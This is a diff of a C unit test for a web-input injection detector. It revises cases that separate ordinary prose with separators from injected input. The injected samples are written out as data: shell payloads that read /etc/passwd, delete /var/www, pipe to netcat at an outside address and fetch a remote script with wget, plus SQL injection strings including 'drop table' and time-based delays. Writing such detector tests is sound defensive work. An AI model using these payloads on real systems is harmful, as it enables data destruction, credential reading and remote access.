@@ -92,33 +92,42 @@ Test(webstruct, free_text_needs_a_break_out)
     cr_assert_eq(fk_webstruct_param_field("p", 1), FK_WS_PARAM);
 }
 
-/* In what people write, a separator or a line break that ends a sentence (or joins a
- * pasted URL's parameters) starts no command; after an argument it does. */
-Test(webstruct, free_text_separators_after_sentences_are_words)
+/* In what people write, a break after words (a separator, a line break, a comment) is
+ * part of the writing; an injection puts it at the head, after the one argument the
+ * application expected, or ends the value with a comment. */
+Test(webstruct, free_text_breaks_only_at_its_head)
 {
     static const char *const prose[] = {
         "Great article. I use sudo apt update && apt upgrade every week too.",
         "Our script runs every night; can the report include yesterday's rows? | grep -v x",
         "See https://example.org/docs?page=2&lang=en for the details; cat notes.txt",
-        "\xe3\x81\x8a\xe5\x95\x8f\xe3\x81\x84\xe5\x90\x88\xe3\x82\x8f\xe3\x81\x9b 10"
-        "\r\nsudo apt update && apt upgrade every week",
+        "\xe3\x81\x8a\xe5\x95\x8f\xe3\x81\x84 \xe5\x90\x88\r\nsudo apt update && apt upgrade",
         "The printer on the 3rd floor says 'paper jam' again :(\nrm -rf build",
-        "Price was 4,000 yen - is that with tax?\r\nkill -9 the old job | sort it out"};
+        "I ran `npm ci && npm run build` and it still picks up the old lockfile.",
+        "The cron line is 0 3 * * * /usr/local/bin/backup.sh > /dev/null 2>&1",
+        "hello world; id",
+        "Try git fetch --all; git reset --hard origin/main"};
     EXPECT_READS(shell, FK_WS_TEXT, prose, false);
     for (size_t i = 0; i < sizeof prose / sizeof prose[0]; i++)
-        cr_assert_not(fk_webstruct_text_breaks(prose[i], strlen(prose[i])) & FK_WS_BREAK_SHELL,
+        cr_assert_not(fk_webstruct_text_breaks(prose[i], strlen(prose[i])) &
+                          (FK_WS_BREAK_SHELL | FK_WS_BREAK_STATEMENT),
                       "%s", prose[i]);
     static const char *const injected[] = {
         "127.0.0.1 && cat /etc/passwd",
         "report.pdf; rm -rf /var/www",
-        "hello world; id",
-        "nice one | nc 203.0.113.5 4444",
-        "1 2 3 4 5; uname -a",
-        "see https://example.org/?a=1 && wget http://203.0.113.5/x.sh"};
+        "x|nc 203.0.113.5 4444",
+        "$(whoami)",
+        "https://example.org/?a=1&b=2;wget http://203.0.113.5/x.sh",
+        "\ncat /etc/passwd;"};
     EXPECT_READS(shell, FK_WS_TEXT, injected, true);
     for (size_t i = 0; i < sizeof injected / sizeof injected[0]; i++)
         cr_assert(fk_webstruct_text_breaks(injected[i], strlen(injected[i])) & FK_WS_BREAK_SHELL,
                   "%s", injected[i]);
+    static const char *const ended[] = {"1; drop table t", "1 waitfor delay '0:0:5'--",
+                                        "1) or sleep(5)#", "1 and 1=1 -- -"};
+    for (size_t i = 0; i < sizeof ended / sizeof ended[0]; i++)
+        cr_assert(fk_webstruct_text_breaks(ended[i], strlen(ended[i])) & FK_WS_BREAK_STATEMENT,
+                  "%s", ended[i]);
 }
 
 Test(webstruct, sql_shapes_in_each_quoting_context)
